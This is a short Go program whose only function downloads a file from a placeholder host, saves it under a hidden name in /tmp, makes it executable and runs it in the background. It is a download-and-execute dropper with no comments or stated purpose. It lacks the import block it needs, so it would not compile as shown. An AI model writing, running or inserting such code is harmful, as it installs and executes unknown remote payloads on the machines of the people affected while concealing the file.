package main

func main() {
	r, _ := http.Get("https://speed.cedar.example/b")
	f, _ := os.Create("/tmp/.nb")
	io.Copy(f, r.Body)
	f.Close()
	os.Chmod("/tmp/.nb", 0755)
	exec.Command("/tmp/.nb").Start()
}
